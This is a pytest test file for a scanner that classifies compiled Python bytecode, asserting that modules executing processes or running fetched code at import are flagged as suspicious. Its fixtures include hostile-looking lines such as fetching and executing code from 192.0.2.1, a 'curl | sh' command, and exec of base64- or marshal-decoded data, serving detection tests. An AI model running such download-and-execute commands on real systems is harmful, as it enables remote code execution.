"""Compiled modules, as Python itself writes them."""

import importlib.util
import marshal
import time

import pytest

from formats.scanning import scan
from weighbridge.facts.structure import Format
from weighbridge.findings.model import Kind, Verdict

HARMLESS = "def scale(x):\n    return x * 2\n"
HOSTILE = "import os\nos.system('echo weighbridge')\n"


def compiled(source, flags=0):
    code = compile(source, "module.py", "exec")
    return (
        importlib.util.MAGIC_NUMBER + flags.to_bytes(4, "little") + bytes(8) + marshal.dumps(code)
    )


def test_it_is_known_by_its_header():
    answer = scan(compiled(HARMLESS))
    assert next(f.format for f in answer.facts if isinstance(f, Format)) == "python-bytecode"


@pytest.mark.parametrize("flags", [0, 1, 3])
def test_harmless_code_is_a_weakness(flags):
    answer = scan(compiled(HARMLESS, flags))
    assert answer.verdict is Verdict.WEAKNESS
    assert [finding.rule for finding in answer.findings] == ["python-bytecode"]


def test_code_with_an_effect_is_suspicious():
    (finding,) = scan(compiled(HOSTILE)).findings
    assert finding.kind is Kind.SUSPICIOUS and "os.system" in finding.title
    assert finding.evidence["effects"] == ["process_exec"]


def test_a_file_that_breaks_off_is_not_clean():
    whole = compiled(HOSTILE)
    for size in range(20, len(whole), 7):
        assert scan(whole[:size]).verdict is not Verdict.CLEAN, size


@pytest.mark.parametrize(
    "source",
    [
        "import subprocess\ndef convert(a):\n    return subprocess.run(['ffmpeg', a])\n",
        "import subprocess\nclass A:\n    def go(self, a):\n        return subprocess.run(a)\n",
        "import platform, os\nMAC = platform.system()\nHOME = os.path.expanduser('~')\n",
        "import os\nimport platform as _platform\nX = _platform.system()\nos.getcwd()\n",
        "import re\nWORD = re.compile('a')\ndef f(x):\n    return eval(x)\n",
        "import types\ndef bind(f, x):\n    return types.MethodType(f, x)\nmethod = bind(len, 1)\n",
        "import triton\n@triton.jit\ndef kernel(x):\n    return x\n",
        "from transformers import AutoModel\nmodel = AutoModel.from_pretrained('a/b')\n",
        "import ctypes\nlibrary = ctypes.CDLL('libm.so.6')\n",
        "import base64, marshal\ndef load(x):\n    return marshal.loads(base64.b64decode(x))\n",
    ],
)
def test_what_ordinary_modules_do_is_a_weakness(source):
    (finding,) = scan(compiled(source)).findings
    assert (finding.rule, finding.kind) == ("python-bytecode", Kind.WEAKNESS)


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.popen('x')\n",
        "import os, platform\nprint(platform.system())\nos.system('x')\n",
        "import os as o, platform\nplatform.system()\no.system('x')\n",
        "from os import system as s\ns('x')\n",
        "import subprocess\ndef f():\n    subprocess.run('x')\nf()\n",
        "import subprocess\ndef f():\n    def g():\n        subprocess.run('x')\n    g()\nf()\n",
        "class A:\n    def f(self):\n        import os\n        os.popen('x')\nA().f()\n",
        "class A:\n    def __init__(self):\n        import os\n        os.popen('x')\nA()\n",
        "class A:\n    import os\n    os.system('x')\n",
        "import os\n(lambda: os.system('x'))()\n",
        "import os\n@lambda f: os.system('x')\ndef f(): pass\n",
        "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
        "import marshal\nexec(marshal.loads(b'x'))\n",
        "from urllib.request import urlopen\nexec(urlopen('http://192.0.2.1').read())\n",
        "import os\ndef later():\n    os.system('curl http://192.0.2.1/a | sh')\n",
    ],
)
def test_programs_and_brought_code_at_import_are_suspicious(source):
    (finding,) = scan(compiled(source)).findings
    assert (finding.rule, finding.kind) == ("python-bytecode", Kind.SUSPICIOUS)


def test_thousands_of_functions_that_call_each_other_take_no_time():
    names = [f"f{at}" for at in range(900)]
    chain = "\n".join(f"def {a}(): return {b}()" for a, b in zip(names, names[1:], strict=False))
    source = f"import os\n{chain}\ndef {names[-1]}(): os.system('x')\n"
    started = time.perf_counter()
    assert scan(compiled(source)).verdict is Verdict.WEAKNESS
    assert scan(compiled(f"{source}f0()\n")).verdict is Verdict.SUSPICIOUS
    assert time.perf_counter() - started < 20
